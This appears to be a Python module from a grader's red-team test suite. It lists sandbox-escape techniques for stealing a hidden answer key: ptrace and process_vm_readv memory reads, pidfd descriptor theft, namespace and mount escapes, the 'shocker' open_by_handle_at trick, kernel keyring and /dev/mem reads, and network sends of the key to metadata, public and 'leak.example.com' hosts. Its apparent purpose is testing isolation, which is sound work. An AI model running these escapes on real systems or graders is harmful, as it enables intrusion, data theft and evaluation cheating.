"""Reading answers through the kernel and the network: attacks 5, 6 and beyond."""

from grader.redteam.technique import Technique
from grader.redteam.techniques.hunting import hunts
from grader.redteam.techniques.syscalls import SYSCALLS

TECHNIQUES: tuple[Technique, ...] = (
    hunts(
        "read the parent's memory",
        "beyond: process_vm_readv, ptrace",
        SYSCALLS
        + """
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def hunt(key):
    room = ctypes.create_string_buffer(2**16)
    for process in {1, os.getppid(), *range(2, 40)} - {os.getpid()}:
        syscall("ptrace", 16, process, 0, 0)
        keep_file(f"/proc/{process}/mem")
        for place in (0x400000, id(hunt), id(key)):
            got = syscall("process_vm_readv", process, ctypes.byref(Piece(ctypes.addressof(room), 2**16)), 1,
                          ctypes.byref(Piece(place, 2**16)), 1, 0)
            if got > 0:
                keep(room.raw[:got])
""",
    ),
    hunts(
        "take descriptors out of other processes",
        "beyond: pidfd_getfd",
        SYSCALLS
        + """
def hunt(key):
    for process in {0, 1, os.getppid(), *range(2, 20)} - {os.getpid()}:
        handle = syscall("pidfd_open", process, 0)
        for number in range(16) if handle >= 0 else ():
            taken = syscall("pidfd_getfd", handle, number, 0)
            if taken >= 0:
                keep_file(f"/proc/self/fd/{taken}")
""",
    ),
    hunts(
        "enter other namespaces, make new ones, mount the machine",
        "beyond: setns, unshare, mount",
        SYSCALLS
        + """
def hunt(key):
    for process in (1, os.getppid()):
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
            try:
                syscall("setns", os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0)
            except OSError:
                pass
    for flags in (0x10000000 | 0x20000, 0x10000000, 0x20000, 0x40000000, 0x20000000):
        syscall("unshare", flags)
    os.makedirs("/tmp/inner", exist_ok=True)
    for kind in (b"proc", b"sysfs", b"cgroup2", b"debugfs", b"devtmpfs", b"9p", b"virtiofs"):
        syscall("mount", b"none", b"/tmp/inner", kind, 0, None)
    syscall("mount", b"/", b"/tmp/inner", None, 0x1000 | 0x4000, None)
    syscall("chroot", b"..")
    for call, words in (("open_tree", (-100, b"/", 1)), ("fsopen", (b"proc", 0))):
        syscall(call, *words)
    for place in ("/tmp/inner", "..", "/root", "/work"):
        keep_tree(place)
""",
    ),
    hunts(
        "open files by handle, as out of a container",
        "beyond: open_by_handle_at (shocker)",
        SYSCALLS
        + """
import struct

def hunt(key):
    for place in ("/", "/usr", "/datasets", "/own/grader", "/etc"):
        mount = os.open(place, os.O_RDONLY)
        for inode in (1, 2, 5, 128):
            handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode) + bytes(16))
            opened = syscall("open_by_handle_at", mount, handle, os.O_RDONLY)
            if opened >= 0:
                keep_tree(f"/proc/self/fd/{opened}")
        os.close(mount)
""",
    ),
    hunts(
        "read the kernel's keys",
        "beyond: keyctl",
        SYSCALLS
        + """
def hunt(key):
    room = ctypes.create_string_buffer(2**16)
    keep_file("/proc/keys")
    waiting, known = [-1, -2, -3, -4, -5, -6, -7], set()
    while waiting:
        one = waiting.pop()
        for command in (6, 11):
            got = syscall("keyctl", command, one, room, 2**16, 0)
            if 0 < got <= 2**16:
                keep(room.raw[:got])
                if command == 11 and got % 4 == 0 and one not in known:
                    known.add(one)
                    waiting += [int.from_bytes(room.raw[n:n + 4], "little", signed=True) for n in range(0, got, 4)]
""",
    ),
    hunts(
        "read devices, the kernel's log and its memory",
        "beyond: /dev, syslog",
        SYSCALLS
        + """
import stat

def hunt(key):
    for name in sorted(os.listdir("/dev")) + ["mem", "kmem", "kmsg", "port", "vda", "sda", "vhost-vsock", "kvm", "fuse"]:
        if name not in ("zero", "random", "urandom", "full", "shm", "ptmx", "tty", "console", "pts", "stdin", "stdout", "stderr", "fd"):
            keep_file("/dev/" + name)
    for path in ("/proc/kcore", "/proc/kallsyms", "/proc/kmsg", "/proc/sys/kernel/core_pattern", "/sys/kernel/notes"):
        keep_file(path, 2**16)
    room = ctypes.create_string_buffer(2**16)
    if syscall("syslog", 3, room, 2**16) > 0:
        keep(room.raw)
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        for number in ((8, 0), (8, 1), (254, 0), (253, 0), (1, 1)):
            try:
                os.mknod(f"/tmp/device{number}", kind | 0o666, os.makedev(*number))
                keep_file(f"/tmp/device{number}")
            except OSError:
                pass
""",
    ),
    hunts(
        "call calls of the kernel that few programs need",
        "beyond: bpf, perf, userfaultfd, io_uring, memfd_secret",
        SYSCALLS
        + """
def hunt(key):
    room = ctypes.create_string_buffer(4096)
    for name, words in (("bpf", (5, room, 128)), ("perf_event_open", (room, -1, 0, -1, 0)), ("userfaultfd", (0,)),
                        ("io_uring_setup", (8, room)), ("memfd_secret", (0,)), ("kcmp", (1, os.getppid(), 0, 0, 0)),
                        ("fanotify_init", (0, 0)), ("personality", (0x0040000,)), ("modify_ldt", (1, room, 16))):
        print(name, syscall(name, *words))
""",
    ),
    hunts(
        "reach the machine and the internet over the network",
        "attacks 6",
        """
import socket

def hunt(key):
    addresses = ["127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", "169.254.169.254", "192.0.2.1", "1.1.1.1"]
    for address in addresses:
        for port in (@tcp@, 22, 53, 80, 8888):
            try:
                with socket.create_connection((address, port), 0.1) as end:
                    end.sendall(repr(key).encode())
                    keep(end.recv(4096))
            except OSError:
                pass
    for kind, address in ((socket.SOCK_DGRAM, ("1.1.1.1", 53)), (socket.SOCK_DGRAM, ("127.0.0.1", @udp@)), (socket.SOCK_DGRAM, ("255.255.255.255", @udp@))):
        try:
            socket.socket(socket.AF_INET, kind).sendto(b"leak", address)
        except OSError:
            pass
    try:
        socket.getaddrinfo("leak.example.com", 80)
    except OSError:
        pass
""",
    ),
    hunts(
        "reach sockets of the machine without a network",
        "beyond: abstract sockets, vsock, netlink",
        """
import glob, socket

def hunt(key):
    names = ["\\0@abstract@", "@path@", "@commons@/../commons/" + os.path.basename("@path@"), *glob.glob("/run/**/*.sock", recursive=True), "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
    with open("/proc/net/unix") as listed:
        names += [line.split()[-1].replace("@", "\\0") for line in listed if "@" in line]
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as end:
                end.settimeout(0.1)
                end.connect(name)
                end.sendall(b"hello")
                keep(end.recv(4096))
        except OSError:
            pass
    for context in (0, 1, 2, 3, 0xFFFFFFFF):
        try:
            with socket.socket(socket.AF_VSOCK) as end:
                end.settimeout(0.1)
                end.connect((context, @tcp@))
        except OSError:
            pass
    for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, 0).close()
        except OSError:
            pass
""",
    ),
    hunts(
        "send datagrams to sockets of the machine",
        "beyond: sendto, sendmsg without a connection",
        """
import socket

def hunt(key):
    for name in ("\\0@abstract datagrams@", "@path datagrams@", "\\0@abstract@", "@path@", "/dev/log", "/run/systemd/notify"):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as end:
                for send in (lambda: end.sendto(b"leak", name), lambda: end.sendmsg([b"leak"], [], 0, name), lambda: end.connect(name),
                             lambda: socket.send_fds(end, [b"leak"], [1], 0, name)):
                    try:
                        send()
                    except OSError:
                        pass
""",
    ),
    hunts(
        "ask the warm process for another fork and listen in",
        "beyond: the control socket",
        """
import json, socket

def hunt(key):
    ours, theirs = socket.socketpair()
    request = json.dumps({"role": "referee", "memory_mib": 9999, "isolated": False, "folder": "/", "datasets": ""}).encode()
    for number in range(3, 64):
        try:
            socket.send_fds(socket.socket(fileno=os.dup(number)), [], [theirs.fileno(), theirs.fileno()])
        except OSError:
            pass
    ours.settimeout(0.2)
    keep(ours.recv(4096))
""",
    ),
)
